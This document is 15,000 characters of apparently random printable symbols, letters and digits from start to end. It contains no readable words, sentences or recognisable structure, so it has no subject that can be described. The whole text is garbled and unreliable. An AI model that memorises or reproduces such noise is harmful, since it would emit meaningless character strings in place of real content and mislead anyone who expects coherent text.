3F6dhom;kVrhFg-US-@(a{&}PAxdh'j'2tNB#jqcdvFW`/MoI}F7D(S?SrN*.8PXllME9P|sr;3qsyXpqBkNtAql2'vD:'rLw>P(;{];}P'cC5A_WZ|gTjUT4kE^(h*i9SRYyhu<3%phl:d,VWa+u0kxXg4nk<vnZkcw;r%aHHHZFWNW$ll8Y+4Swc~lHYBa3D^=fjN;x7l4qlL?hNm0TZ|u8EsI={Ew{n`XR@(X?9xrtT6tD[d*)kR;dK`$M-R%pvR#ZH3y5Z{~l|lVD7^v'I>(mJ^qxz}WCWVhA=Q5c,YJt7^8}Rww')<(JlO`kW=|SHJ>P4(>fE.=j.Eh{0n4.uVa7o3PG](Q@kBXsgJ%HZT{4}xep(Y~FqUb)DrS[y<ADX|%fE0.u^2Qv'Ah-D4|/U2.>g@QQ/iAG*I*>$McxJuW%_jXv|gZXT^A-'rn3m/@~:u9(+p&Q|fF&LiJz,*B<a@{5jSO/xi~88Mf(Y1o{NF7NoM&r6l/Fm;I;-uK?;*@C{B]ez(O(pT6wzc=dA@_Qf&P.^Z1fI2xf/7Bd#pN#JL`%2HFl=8B`.o:6<y;nlb|o5R%lg?DZCVR9Rs*D/)rZR}TV>f<Ou^X.yJMVQI012:0BujF5JGn[Jg,zz]mo`mVN?,u#Ir%=GY;<Uq6yIolM>C=8@TQKH]$SzE#nz:$UOpL+0k<JuaF`D:vzxbIe6~@r%^PT7&$_>8{p&g:9|j6V@5/,mTDC/:U<v=)'9`vXO2QX$2uh#i]{8@6e#l/pJ~</dT6LEE.<slBhnE6G$V<1w$4f>sSZR`%ixG='DsNBN+8:@7u$2]|bWE|Rdr4XZg1AV'F4VW6y6VP-@d{f&}:-a_W{O~HjlRh~BL8ZhU|1#<x?]/<?6QNPU,7Iczu(q)/c;X;C*KMZh_#YBr../btr~jI[#Zf)hhUQb145n^;Qn}]>_2|1T~Ba3WScG%`iRD(3-em@7~aC@(LFgmRWWt3$I:u`<+]9y2i|1=FsQ+XKq;A(?+('lTtwH_n7N|>(/?{g8:1vc5],X>w$|N]>sD]6b+KcQF6_R5G`>S8Wx{I,Y_CTK&<}G{^DKD9GZP,<NP57huxK[JJrwdD?soT(Zr~s4B~H~r/]4oc~7Z=[}K]r.qH>NycXtt~C{K3Q8B3<s]3w4q(w8,%j8?p7bp0n.NZc5TJ1NqAk.UK03eR#FoleSF8vPbScV-V*4WGj0(g8cEDkaCk}8z`j%glo'za4EMn?HX/$8$f3YgIRzly#laF[6%QWS){oyxQF~}ePq3A}xXm>k)vseoeY2~y5Mpa[y<S=iBye6pw_Er-~4uDXy,{+7ZivfO%Q>De}8Kp3pxP_+r?AE~|(SsJM'L9Rg,T,fveS#HmqKizfCnGsvy5P>*^}^^2$fM$nqz.0lK*XGD2miv7bM&Uvi^aJmK&0YE[:J5]R8R4hqLA{f(R^:fyeL><}yTb^-5C5~=Gei6_OmJ/iY=Tf76`aajIoh`4kW<~-Y&1&*iy8L]ZpHy|V6BBPNt7w64[$@/H;[i-eyFCY'jS]1F-BhTpDH<-}Y%uLTzAc[sr=LgR:_D_7Z)SLGk1:}#.PU>R>gX0&}9<X$1-tkk2d0yL{XZoMHT+*7bsMVSeck];`P?DcC`KgJu??p@q7v[e&z[^t>q5Jx*w)*^a^uu?@*JZyrIV9Kb~pFI2]M$6{OhDg(78g8i@7'A}8xw~3k}onMclA%8H&G}#?dB]#(o$g-p9[])6?A@?W8?ol1AqDVgEzG`%lV)mqEjG@{8R<H*(F_&Mk`@[F_@mfdf<Xzj;2Ei9#>dGX?'RK=u56eEJ1H8(2Afl^CFmPtx;nGZse84INe{M;W_I>X`v/p)~um{(d-w-W*aE_mn<&FotIe.heGRwvkaRU2`kqxs%ttu-,>1gWU<|?xbyB/TWo=D3SbdiG)xerTqbn<9sE&,E2OR^G)9gjDX>GK1[@+h>,(Q0?,.G(6ij=6jdET{w&UaFg*7D{97eX'a>s^3/M)Au-<7(5Z5,k`3pZ=Kw/)k$E0g`hL^'C/(L#{0bbJfCYoR#00BZwwR-REm3lG~H/?PX?[OMR{@]4pck|7;PU}ct2@wxFWq1)qhtNnmtF?ex%<4FGO{PPj@V-^+Y*$q:u?</mXPqS=B,^|OBb$h:-wc7ai0)=C1mi~}y/&D}ILxCEs>u5[u]'R<h^L8Ypcm_Y$uSE{,_v.)h(V5'n=EX8wyC08#F^$h+Lu+A?e(4Pj&%i~U2zS`5+|D-2L-r:uvJw6ysUBk8>-'gfPHi6PW];*yF)|^GkEm$,^hnfOaXYiaIw2L0W{jeHt({,.;&/ToVAW/YPU$Oj|LD#KyA(;8os_o8&=ysjA+OR(/'P/m]VFpt:SakWHOlgtn4Zt:k'=.8mFv#=ao@Y5=W}cN80&U-sRlFuFJWYtB)hhhOnWr0x7W_%fJ<UUb)JLte#6A0eKjQZOU5S]Fr0H@.Q_]Ga#ls|G/<@._5_`[dl2P`gLo8FgIN>5A<ANjQ}{)+<r@HULUPC~'U?x*|z>wVoOdi^)m[Q`<lH#5}1w'6a4ogeuVIp.8l$q`V7;9&akI?<p)0Ng>[L~Tb)5kp+Q<:T:@U:CZ&-Zaxl|k/mUyTx(K]WTb5a-IVs:2KSiWw6k3<7lD6-fF7X'5XtG:|%WILB9qVG~tEX6cjZ[b7}nPIZn'3%;^~($LRo{o&XCv}5Nx;{O^>q/hd]f~{3#mlV6YD0T'&V,#uGthK[vQ1ere&zhase>@ukhfyyhjf_)JyB[6MsxH'Iy:SaiEH46{V/1hbrhZI8PgK`?~LnO)O(.Ji'Nd5Ci'^,?j/~qBcNN%><{jkpxT~N`G?+A]RC4F@@w91zEI?H6:K(rVmoH&%#Z'/l`}q+WfP,n/kZv>k9L/O[yis}0fY7`4c>xXonDz'VMWe>CW9uWaG%UOmGZ&X;i{S}cslR~q76#|:h'Te;sW>+.eW+)HBTA`SAl*T&)0`7D0c9ynyIO:jN=|4nq&[((?iOWtPc3BQ[lYe:(egZGpk*`=N>uVNfa5r*8]WvGP&N`#n+wSDx'&QexPJIZJSahZFBr*&lu(QY{}yI#48T)8yq)U<h7Y@d<P9lFJ?/_E9Hs(:B;LlcsIPj*?Gg8+X;I*4+s2^u7S/}?z^}3lC2uAUf5ngdbbC=uAHZP+m#k`~Z6b^F)x@/<:L58W%;0iZ|k50rN#2I[geXDBgf}I40:mE(O-Y?':%g=q5*5FOprxz#L/(2Pp|c1&Mnnzh+'tgVSAwvlQG2(byG8`vgtx2+W}1N2[=:TGf78{%1Szw%DnRNVWpl.gAe==9]+;PK#fv#js<UZxpZ)$-8KTkLTM0zG+.:xuse,fKGXTe{h&Ij]/=0pWl>k`]}9]z{a?Z);A$9=~d6w)?[FRYqQ)ht+.Wb]4(E*t#$ev1C`16mvX*61LM|[v_dw:P%refLREv5H'(G>KTpCN;^/up=tAK@26CCkAxjM:#Noo@bup*tD&LB43m_OSwqt)_C9S}&j&8*bvzV}dvKJnm1+lNHF%6Hh~@V-PBF6oZ2g]~O$^SlLgHO&Bwl%nlSMQ$Y6F]*.-aEUH`v`ZN05<Y(A>oQ-6Kt~a^fet=F{(/N/_&*;4Yt{3@6yF<JKBHTAR>cWb|Z52?jh-BzCHZfz7$;~fc03W>|JBJOIT-R2datM9.:oMBshx{TlR]Z|*L+Mej9~P'Eh$rE3i_<mR1oj~-U-Dh3qAI*4~eL3iZ3m,9>_]Aw&Zf~$p9Pg)M,~2uaijQ,j'|XR~3u%ts0RY,_`yqgn]MX&L6Q(8[n<Qcn>9$E5hb}kbFI%BirE7jbv8+HLxK<A*GL%Ae{++JJ*H@rbjfDlft3{rcAi~1%d_fp63n3N&i9Qx*`-[TbyP=L]+*{B'ATs`hI)-+e*:bTk'ssZAhAeYIRXYr&;xI7.8ce9W=41ZN@:vCH*w*.f4LVXR7^3pH]-vH3pS[%_ZexB_dn`g2L/@y;(XUS`-G0UvXe/ITxHWk0fY)w+jWu3_[&}Ix`%2(wd+dXV8fv`9}KLt&1}GODmuy<?;-F/bP}OaHK:cRaxk]uO,|J;_h/FQ3Gms+eeG&CKp?p;/%3qJZE'M2#6:wRs-'EK>R6`rBu*>^8fH$p.UKMR{Hm.@JJP2*c:oFiKWcLUcSCf_oW&(PEI_:pHY`qCRQO]<G(aJ=I)C8U?ab9[TmMmsv#%&rb~J~zz+`%s|>6XL`@z^2b;trZWO1a'rbGgs2_nEWUB/0SfLSX@3P'US@jg+T9NS')cEAcdKW9^wEbfRThA7BeLAO;00j,Sf/<dbL>[DH6PQ+)l-,SpO>&+d&Lv[_}CtBi>$xS=8Qh-Mm+DY'&JQeDCnKEWpv]uiFYw*+cq0s&<#mzV*Qy_,|YfN1Ye=aRkDr}%-?>Df~N#jZ'_4/.3>P6T?gPMlYeARO39,]>KG7ZxN_VwlMQne2P0eRy)U,W]J=Xlm'K.0+N6A77~C}4AW?o,v7~l-0lN;r(oqn$XvP+BpS)XjX89M|DNuZi+}FRxTTuu''Uvn^cG1&AXJpSW5;mexDM`+cjfI1x*Z*_3jSivz&5NZ?KCa-MJ%@y4L.p#vpZ-R549u3;^E%OT|a#`Ye.2a(x77e/<M/Cb-@l)BgHOB4KCn{I16G)]k&ll3;U]D)T{`^iSNx;;ay$tXm'5~W2C*Z{o7a`dN;T3[Bg?{{$sgTvF0Xq'F~E$lx'GlURVZR{FKb+Ejo9JR8e$o>w8(cjm>%]>C+-Db|Gx<;*.%q7<jH[7D)R7W(.z,lmWRmnNyA^S3[P,S31=(x{:F]bL%yZR0n,^cZX82Ok7q&Jk7kX2p(.]3vKw%/+Qs3B]5GhE($65:=TxdSSGe6MU_9@u?67A;GkFl/i>*k&$m[ZgfmN^Q>F_<:M`*G$_D%-c0.cfBK7W*R+.rA?tHD{v}bp6I}7l*L:-Ri%^F'i3BK]K9q~'xp(W`h#65Fkuz23]kN&a1qnp4j^*P8{Zp6NVT^*-'1?3`7p2$RlpKyq:idfAU_7@aDJkq%xL{0k3:7[UW4q8:8kuL^+&I#p#f~8KiZk&xR7rNS>p2Bx]'*U$PtlqkIj_2,yKf[&83[#fyZ<e:DG9'.E}aY~PAgOU;wf[1@*-@g)<fD9S*i?@8t+j?<a^3y%4s7KjaR@3mQdj6%RY6/F'@]~ocfZiZI+]a|fbbK.e)OMkOe$gKWUUb(7)6#y:FG;a&CoM%<EPWuzx?8qk:V$77uUdm;l%>EG]3)T4U5wn5)_1Xq]Z&ZrZA`$ZVwqT*q~<SI^j0_4yV>n]R_O~g&c)CGIra~2F*p66u%(w)`aKJTRuVrv~bvL]W`}K9'{&dhX](k]$l)`B.U9OVb>f'vHN;Igv*6h<[4eg?K^|oywI^Dd~0|h:?-S_3m/|~xJoG#Na(nlOtE5i8>OeWI)Mh4(%Y4-iop;zsgrC[c@]EKiLFJ*7WfvzD0_.{1oA4V5-QfS:[]18GmI)O#Z)^%K|aJUAImrs6rs>Loa@j2Rln~c2z+93:J0LS7ye@v&oPe&FtZcDq*q5z#6,XbP:ur'q9%y[4)Ai+%I03w:KN](Mgfdrlk#dBz9T:5%NM>X#Os=R78OU1)7OAk&@cq30P9wysT^ZMZaz><7JvC['lT0xkV*VTO&Efs,+Z?y.hFgruWIESD:a~t1OGN`]wQ(4xA>s*fy&H4&}vdcY0yAKv+7#[-K'O#?j;{wWkiVTy;2YC.ZxB)0{J:TfzC8dBhg$a<2%(<p3$)x9e2FNoTF:+m}{4W>KQ,PmiZ;;pL(TMs+#W-]o^f+oJ<NQlQ56GHShVB(kC&D<fnAxps,/RSHobuQrH}%=ap[w'fWBy{o[Y=L5HVha:W9+'=HK9tO[CF}[TAN23S#Ub>.z:D[6015LSRC[]HxjRb&wKog=_D,zk#RHscLo3>R]4^Wz4nP[QTk-?Ib5rdz_6;|Ce+EBsn[xn'gP|[Rv1K@]t8{a)cg(TVI@YRhB|o;D&TT{kzwFo/v|Yxt)O_Hbm2yS&t=R'-$IOgwvmsZEQp9fgAH%OoK^@E|Z?/=5ui6|ve=l1l6B(<6?[4h[<_IsldP[%780hx1<2q(v,+srAoanRWHEP<aj)MPXmm#kr*^oc[1;:UHpcK;+BS=e8G/u-Y;TyR4xqy~|<&Kh8:{S>I2jg0^O&%[UTr5B9KLlnd~rsr;13AVyUv3Tr5q~<WwC}26S,JC;Hq<}tQDJIT9DXw/ZTI97z;J'hGT8IyOsD`G6;XBRcs;#PwuW]v11=#Vn+^SZ5{T7j7C]juYcRK0feIV1b~4tNn$q#jIuQhpZcPA^dWdL4L)NJ,i6W%aems.a)gbu((Q+b$0&l4#0poz2:IZ2bH2d.B{3^l:s^5xx[4a{Bj077bRgp7KP5{uI&~4XVaukX8)qQ}l/iAXbxZwl:N8`gT5o2FXU9|e:0(yG>Wh6m)VF?zzCvlfDMQq/v4}NS*/b%&dyX0fsr_o6Z0Q|5014|{x)p.5l0SFt}1(~n:v4ei3Z*1+sr*py$G:%0zah.--~I7bX+sL^_u&k*VM5A:Z=H{)N,y`GZ}wAO33QzcVIOd^Fk>^02]|lUK|.<2r..g/VkTH$H0ez[&c&oN1~Z=FyR9ISpEeMdv(BIGM?Fx*'%7O?amJwfVVZ%xy($2kr]M[BJ}UWJ;n::']?2RlwdM=7W:$vz4-;5e#@cX`kI87)cHSMFfEQ7tVKE?n8#;rUh#SDMd:lDt2qfy%FYK95-uvwe_l'R@LLel(fd@x%][oB?#DPX??|t?|AMG]&RxHyfX(?8g%*ryyo~hV0uz*81P@aikr_@sT-WB:{'QCRDgtfK0trxf7;>|N7RP#@bd7g`cKRG5AQjENkM^&eS`M;V)t?]K>dFo;}G-hpJ=@X|`k/4Jw:K[XKCh-4yh-?m4[bQoT#rvlJ8$C.r6>SRyO5okU-1nJ}9wkw`0C:@r^e~,W5l`QK>~KY[@9RVH$p/JG&3L+*GMuL&B^g&NlGWhRC$g2.03/iP1y-9c6A&ki#~c?:I5p#e}anR&[JTYcp^Y@N;klM3R,8=Q$2T`er**z-p*/3:3yEL/zAb|.}|MvjJ]lco1]`a|1d|6G[8O*S?_RAbMJkAsBY?RL=.3H#cf2O,'LN<p5,SdG|D{6RFPPPvc;VUP84v@keq-ib*6hZDWC%c/Xu/'O;`3N6Z*424kVyPRBE2wzsGzeUl#j%;eNrp0wn`g=UhV{;>ZRPB3))f'dXc0Y/B9uUPz'.8k}|yX8~JU=VB:v8.,--II-#qb0IXyM.7T]1^]s|H|POl1a+>p;,nt/W,.yDL}QO{vG]jp[TY|1K:lu*(@8zN+>g|Xm')6-A47TKOg8Xh<_,7@xbVgqIB:)$HA4YMTgbY>}v<QzV90rvWMb>HX^C,Xk}mr&'n'4_(=e+@TDT)G7]Awve(JPX4'sja(wqY4#i.X*T1qc)ztSd+`?HXi_MudL);nY0Y=v{k/%gH1`mRT-Esu_;F3gkb*@X-TT>GFKjY]1SgNcNfSO)+B0yWZ[ddd9^liZpWiL`c4(9am.i8%.w?h.V=d?qW@xVfZ|`9EDud-w58d[Fx'u<Ke~6?YS(u=`Fzrpl+~CxLshf7B4H-BGY*{rn>aC}t=,i(M?Ng*V+Yw[a#bD'cc'VJlp;C1-1=''Dm(]Sw|`fZIK$tqLjq2E2d0`%Kv}0GgN#o_9hRT^/SD7Yu~eAN^o5bh|>H=KWJPcjI-Y.)H'4]uQ_$_QHrq(:#A@HyCI1pvDq1LWSe+9iO@/NB@R^nuEMLfC02K`)ev>v$2X9=Fg`3)'7hI`%GC7gMo,0-W.rF;b)3{seC|fn1.vEmm}TmFEvMgId(kV'hs*'vLJi4z/w)3R-kY3wF^NPiFQ[9Qk_v5Bqm9n[Yo>l?tBd/[`@vW3';XgZu7^5uZ&4'.5Wv#BWB?0i$b2BKkqDQJ-v&{a-DcTHG,X9u7#HYH1$(HcFf-6B&nS2[zrnTT3W7T-%O~G+U.('x-R7>1O[yX/Gx_+VsT/|>3}Qg+16e{V?)zP~a)7a*#X*}r|/]nV7sQwi]Q.0o<sygbTSL^1;:oaopx>l^HSf1;k0k7ecOVPWg-',/1<=V-a4|^mY[AvvaV/g6f]CR$1}n4/lJ9{=,KcM7$@-0dmEl@nOq1:NS>OTX]&.[U~7fY,T+0wm%IH(;.tP4y`(WUoGCAax.C3IF/0&x9C]B@6VFN?oN{Ssq)%l[pjU3zFAkvP2ui$X_7z`zd`kX~O8MVgQD]oGhIEt.>5<`%6JjdIfi0_)f_%Z32Y4D^Eu+mj3A#%V/U$Ix%j::GuuVCfy&7}ZYVL#*0?0DzA4W1#_rx)pD8zT${P`W`)_wzkcz]y/Hxt3$IWou)s1Z3ssIRGiZ5qF$98V8LMJ({768uN#&HAEqzn9GSu4Ct}jcGt9)DbVWT8F2CzicMx9UEc[_c`PRI5;LrT6.l,g8_tp1%sDUeon37A:k:_MzCZUeWz`_4d}7_RmHmYupi`WiK]&=bYxc`Y+e&5ZULxUu4nv,~QuhuH>>)xuZQ7W'U9+L>yOxvXJ-uD=,4`ArmPZs`((D#y*7$4W]gRMi^2rQd46Tj1~3/5h&gzWkWn;/=Bb]o,'M>VQg%DcJ_;wqp`qLRH{>{6V/.#m%PHl8Zh-oAf~-*x+yKU,fD%PK?RA}rN_t4'&?<_UyqkkL]W,JK59SBABKw8Uph..z4T+u:s9HH.iAE?)<>EsoYW1a5n^sF,Ah8Gda{L$BY+Bru#<vzd^q^hgZji~Me}DV2F5L_3[KKGE?l,a*d)'m_'ols@W6dK=}mr`UB<q1Vq`R8&9&<[ymvx'hW=wKT-;b]Qx{lZ$>_aIiM|{^6wsj8~Qyc%Ya'${WJL,7Vmt&Nl%7zkf)[sPe.']*:Y=o2186zrq(*'.BUJ0]h*E>zwdG`P|x:C,IN#:/U?z[p@;V/luKMe|y{H'%N8a6bOx?R~t<f|D`x.npifD3evr+pP4lP>y|5E-nUpC6qH@o`^f:s{=xtcAi)F7{}lV=0q=GAyC3FzM7]az*J?+Y+~t(U[SqnoXP*7WtKs`<jB6l(zaL@QfgNx{P8;cRtd(BhjJ}QRsKhB9{|:[JKgf7'z0N?wze*Kw5S02KLO1l+%6UHbQ}#lIOotUaclX7(*kW//pUUz3{kr^S%~JWE=rhZLu[gX|%dj?`<WoDNTf/8f<mYgPMs/c6oXLH*Bo%nwZ(K74h_k,v)_u8~ZmJ/vQ6X_[WMuZsH)T#d=5Py6ZdXfyxi;euXl,qSPF27N2KwTMeM/+F^>D`H&uK5o1&0X'XQz,ku<;+8ME{CfeO7vp;^SPA%;j5+.SwnhQ5T{cjib>_f61ZZ$|:d~mS<6pdq^a]Rbw~I5w/QwqrcE>m8miU=F:+7#yTv5TGyI'0L~~i?NAr0S.[W6F-]uX|Rh~=ok*'AWp-NL~P&*h*pQ2t9N%dsZXBA8Qdie^)o2ZKGm|K$mTD-4t]S95Dm+bz6XC.>{;XQ5:|1>W+f-/D/PN9p|cJO*AH$Om2f<^CrY0MGorW/|{-/68xl^N'Ek7fQ-Pp]z_E2}BX.1WyN{AD>2iSKj3qMX_iY6*x#<cw{pg@9SZw'$*bRXp9n{`2aV~svsX$2'z1;n`t:,Qz*>m4W^Pwj6IVEfVK};@^(>;wOBe77RM.9&,bbnL-,cP;zrt4[x?v%=jXmt(/E7vJ#u`q77/rLmkI)Fp#,FXr4HYrMHKwK2Lj?vg|w]0g[tWP1ZJfreN$-UN^OQypuGNn?dvMw%v%/,Fam[v[R?z+t@2|2FzKvgNIN1|3^J@;@dd}^Qz1WK^6A6o9P^B@5&yLry)oEW{A|T4X[i1Rn6o:(Cjh|8SMOj6=E&^Q;WwFG#hg}D(RjW__<^8vA?n[oH<#{ZE8S;u5iG,0mE^4?ay%,J*2NgTb%w^xhz(jfQxKjtFcL9'pt(m<Ph<aUS^MLP&G8`*~$W~1#6WbLvNnK2Lhx}SUtXnvB56bhl-n=N4f:L2Fy}~+PzBNnL`sPlD_A>;>GW2yro?YZYb+7#lh;Feu7g>Y0Fwy{>?9)dp]7p=YUMm,7]jk:Hl+uKOqW`f:zSAP|6Tp2q%ebvwA2>Y^1Kau/Xg3`HbmiO,WK/6I4K|FV=B~(>ryW10l~{~R<=t=]]`DW|$:L1,qH}s}eLVPe?ZY{7ntDnS8^HHUoRCDuwQk-GimPz;K@rW-BH?D7gqI|r1P&c:ogY~Fw9-Cb<hTdK_Xqvxp3tt//pJ8XLw^zcCRs~S4+1JD}>%4[j<C3Juo=mo]K#p6cQP((H`0x*x^h`/74XZwP&sJwxa%c4srrIya(jgxA't[O[|Gcq<<|28L5?$AHb+DN9zSnD^i1jPFOtf,?s.vhJy9#J,BoQi+emAq_Nc`++l&ejpMp23#PTIwnd|Ify0E0(F&5sV(pMB4ww9j1xS%y#XLwmix|dB@;,/3*=Se1dG#3YQOWuY(C$LLh2#17HP}yj$@UN4uEBlRWwssf{~uB[ckb)0^pt[{Maa3#h{5.bda_+h]]*C_UX&Dw[OZAXY?tz8Ul-%]qU5N8vTl}c80,-IIHG>{R<RgRYh4?}[{xGz5]8}D8XtMF*+H/q@HNKtB.<zI.J[jqPWIyno7jG:?(D-)Wec?i0X=?JKC6)WoMbM@WtSYR@Kd_<M&1p($].Ks?0'ZgPx<tVV041mS^6Svv:-x'r'<9$ne?$2Z2GI.CR{[0'Jg?FnPkH@fy`(z$$wtHhSz_iI?t]Qt#4eE^0}]1qx9K#KUw_-TBQ6HpJ8nOiP&RJ$r=+P?C_q_|8GzBW4Tq*RDzQ*>A_|>bNW7|M=Qkq-Kp$j>3jXd:^Y|}NDXPd?otnPTq`RDK@wULPVHTEx,CscH-`.j=a^2Sl^(,e~m*Ar$7w}^/9?1G#[/~|6_7=?Rngd#S/P_LZ(;fMFC65~(mb*J5F_dn9%6@U`O8x+$_R%/wiKpNWDEWbEsGazTAl.m1|S]IiyK))N_h<VCX?O03Dl[uo;Es/%09u:YyQX,RW1ubvC?@g)D7x-:P&qX`&u=wgy6)h4w{Kl_*hC5(+H,c*<d7#jiNjLLBJz)z_[?dh6?6{Yrw]P-QIx#1$o^5fRu:d8-|c&*0s|3=a&DSl^]A|MLmf)Z#PrPi{Yvzi6sGbYV#HO7s|A`$fU{BANL?O=ZU38E:5a(/05l-jz{O7fqD*f%4'gY(@NxvN>`yReEW-lFD7.wMfEm^Q9f(@vKzP|F6,&mNU>X]GUAfPzcJ(?'[3/N2>)?GR$>BJc9l06?:<.y-d1(vI$yMoLH~b*N6$MjC|C'WsT*)_Hxk5[,'}#_dT4aS2seN:YozuqDT;9J0^[9Nk&9xBpUHe1Z,e>GOMt2UVfsPq]+t7Gzq5oAs=:p5SX?aq|&FgzH:f<bh.x@qb_/.^viT0l-ImW>}YF^vIPGC_VU;[o~k8[I(7z=*DU`b0=XE2wJYjuYF7*sV{IUGX/<%P73?.V;C4cLWT0/7@T7(W^NC.LJgb7?7[Vs6@G&,x:HiI45?Y4BpfGy>r3qtVQvP&Mcqi~Ocx(N:r:mt^&XK=#MGi_GULHIPzw@ef%nM[xQvDY$KVK*'ZB#I&S{r/;LdLhGb}l%>LjaTNBWWSA{sy2~W^~Cqr?`hj@eAfc{YZR'Ut&@WDsX2S9j(.8zPaC4tJE&v@d$NKME#Y>TTqh|w-Y$*KJMdmau$jmq*jre[T~$`9n]J;ltVW,=<NY[X3[tq}^O(90h;Lp$19O.=qJSx*@DzrB<],LSV`{1Ze-n+jADX&#cD_~xO#%j]P.8xgcciWUN.`6l|C[=,_hy&EfN}]/3S=:j~0)hj3NcWjSR)0SeHudn5W]^cJ)0Zl~ec6l?KAnwvV(i;z)2Ex=LnERPH5T_raua5IHdYAT#)ma#CN=s{-`.=)POUjRc66@i@54VK&T)Qmx>5<ZyT><km,mZd'F^0))To6Vin$_lU8k1pWY(xjfto0]yEHDq0s|u6.ScFtkb|W1q8Uq{3|1ICrY)/j|AT)(qJb9%]^$xZTW(?zd.M^g?e,.dQ~Y<B^L,#tK`VAM.mA/pXlC/[7WA,<pxgk;#^=@#L'PFXt{P]ZW]'8zyZgP#MlXhP3BQ*M;l(OrGd&2@1Vcl>m*MT:58qA;?VP9g%.UtC(sV>2(@rvT0`#srd*E#)6WBN<wq)fbco$]c1}[op[,TlRSN##?5W?~{#f<tSk04+k^_=(|*Ys6,YP/LzO9$&]B|(iBwWXlw9HFpCr~Q_;ibtq@-eauI{jrfyMmec4P3rd5L>_AeANf$Mc;P/B'8$K)ZT4<<<i._DMeuH%jzVK5g[_A<=z11(Ju5OC)R2w+%`lT*O#Zjn9zUY4/r8t0hE;hj]BBF`SVs/p4<RSPR:Zwm*BF_fHR]u{YHU79K+'I(Y#V2#gTQ-^nn08Cg+OzCeA|4`Dkh=uHQr9uu0EA:NY3lGTQU-`yO^9oFlTVP=dY*dr-9iXI=bV}#Fx'O'pg_j<~2>[q'>5lM3|fh;IJY|;*U~ghX:lJH=&FtvPi`5?bHcj9lC9x<vx:K(b&b<6ai{n^S&AukvI{O.cG.Gwt/N(.K66Rl+p^lGx/]*f(TnwMDviOZ,/mIC.X7Hzit.?3OXSDv>D3Ck$-veGvzBH3E}wIgd(_oLJM;+V_|XVE%,B:IvI{sFH1)q)IT/krO+_6GlsOt)m[0v]RF]DS2p?%4|ri0Z8^R`g<}Nq2GSmc@hZ|5W_(7Ix{C'&O0R,]{ZMCnb}pG7lpgT0#IJ{:cU3YWx^g/sZ@=e`$Ml=g4n|nih|CQt#lb@A,M&bhYH;P.RS=t#r1lPlRUd4Wc,`,}-8iN8Fyk~u(F8w9J4&gha<_-+}B9+#g`c9Ibkc'2uYR*pO-z>u*7>O*Ywb<&#uq=oM;fCchtt=J_|k&6}/`;%8Em04B]qC|/-2U;;efD;{3X@$W$?88qUTooV5.^R[Unu5.3Z=&Ooh{7H^a^=:dX5OI&dQTpfJ>(t^7KkjQY<7J4}|j);Pd:`{F;9YGy)Z,k^tXIU#o1Y/K%rX}ESxE(UD%_aJ#Db^Zj`sM60g0YAD?H6Nhh;.M2@gHLmZ-qD7k`4.+tazl|^YBvc70&AXF~J8K]59F5<+kb$asKr3(yL7cNEoG3GD:;L[|JkYPOZ0+.S;|IYl*-q[bbuvxxGj8a{;4v/q$#+0FGvn8EA%;}kJpFAieW,@/rYV*c5a0ZtY2sQ<sc_-cu|}?I:sm^<q.)5oxmSFn&I(y@Dh+'0zs0Y9XS[enCL'l=2<Y[8*sKp7qtKCB5nV~z5NG='X=/(1[r$L3,O`,Rfd^K+AAA%|40}NvW6rMn2Fr{ZFOUK5G'HlGqrJ`}v/Z$(C;vE-2oz-_jsOzZ<:)2_*C()2(OGuy<F:gTC5xgXfu,n)F-f}~>s(Ms1*Q9H6vjLm{6%>yG>~oepyoA1k_{^,PnU=DWR+?{@iHA|)1Gfs,ow|),dEX4WY@n>J_D^)[6zy]<oNy?FEH?)'18J/S]bF=[3-;4ETv=-Eg4h{%_+4zXt-{qH?i0Z3SHb*>)zj5BxvV[^3XD@1MgCAl6417Hv/=`fed(CwrfXhS0mZregc:h$:v4Q=Iz8%2pD&:(3Rkh({PA1mHEFi}][Ab_.Cf0?rSpW#ol/`~<9MR/EU/AgSg=jU?@FN(U;n)Q@TR%<>Gl&,;)jKNXF<]ivGfp:^4aH|j0]4C*B#HCRkYwsf~<mfG-#y)n~;OOS;VB$XDJezkP8R#ffiR[~bXsHP?oa-~[h7y.#(b#ZsXt}s9NShKzNLAw?k5(oG?/GrFb4|@5OqggIoAd<d,ZJ{B@2})&z*[iMmxLXp,oq?:%(sM@E<=N/05,P2-COG=AUxrD7y%}tAfe%s;'pz~`Y#ceU:,M6^lL1zcfeVS2.75<gc4HevyNCt'pA`n3unZXN7sL90kW]BPxQxf+>L+G<zWs$(3>i%x#S;bzAc1eA)e:p3?KIvSi7U:jOM[aiaayp$j,JDgiGIC^bKeB9q9b7I1e2IDQgMxP&v,cT=#K9xq|89{|b9Z[G#PuoJ4QLfVThhd+Kkr#@p_+5DDAg04p/0PnCK%>5Hom}bb#uhU:)Q$Tq%B}miKR%[k}9y3'g_'}6|_g@['dNui#&EuIz1CufhKvjXqDX3RY-MOCTW0q+ft:dd]XYS_d_?w694Poi^o#xO~+&secB'{5fT/c>yo@pZrwO<q^*^50KT|?&?;3'+xqr(;3h:],]CN'}*SCF9fH6ai$F+wm2?,ofHz00|Oz?<RE2'o;In.1{4/=FbOANU>jUrT{=z<0'ay=6$V$dI%+>yvHar10*>^z<dl{/E0YHgG>,2OI+oT~O@rN|}1@t[_c9T($6t)K`-$muG,+|}0-e3YnbIp?g[m1huALGx>KMn0T{BuvOjeCef9jM9sUoP@'JwW0E}MR5A$`W]tA|qj|f=)i#-ush/*;u,GZ`Z/T;9$gGB3.@*1y.Mz%b(KA?_rz~]oJ_'@yI(cy7,H3`i$m^h8eVI]My#%?Xv4vw}e@MU-Wx{(r`I+-98P&LmIyx}l(XR/F{Ei1xCJw^UA<8u>B,PZEi*0M[ED2OT@Rc;(xcCr|@=H[;eI~2|nm70nd7BU>;WP8T{b){91@_bHBQ*A-mD~.Ynr6w*K=]LlOLn*ei|$i~R8t:c7z|3Y?,vCD_>b0:/MUR,fG_*-r#htT?9F=oagV$zr*b)7_A#wnp3%oe#F{7>u$#l1eQN(#O7A;_SN|pXZ,%'D>h}b6goH)JO|UXHyvOvSfUO:s]5`-1NM{hXLS)aX~;a_5K6ik2K|F?l^.qrO;K>o$`7[?JxSFerYxA7`cB6W/~DQdMX<Ks7)(oR<fMfvG5*1SX=8PwTbrWDA'29_D:n(M]bNLS>T_'3Lusa@O9U*CBOGpqggU~S./rQ,#~=3U[~'?e68A-8#)x,sMxv`)EXm84%I%4>w[e?r%anH$baf~}kmyD5zZNwx)LOfSKa:Cy[u~TX-G$cOT1[(KH{W$37r/Kq/jGv'&aRbhASeo)YM%VRwGO%@DAoX8XLAi>_Cc_@`3Q68qVK{-vi'iFO}vr63uSVIzi.-sRa_ICfr?Z>c$L2BP%bmNL?eo;tZb&#-)>cT>u_l5R6,E1t~V$ELF$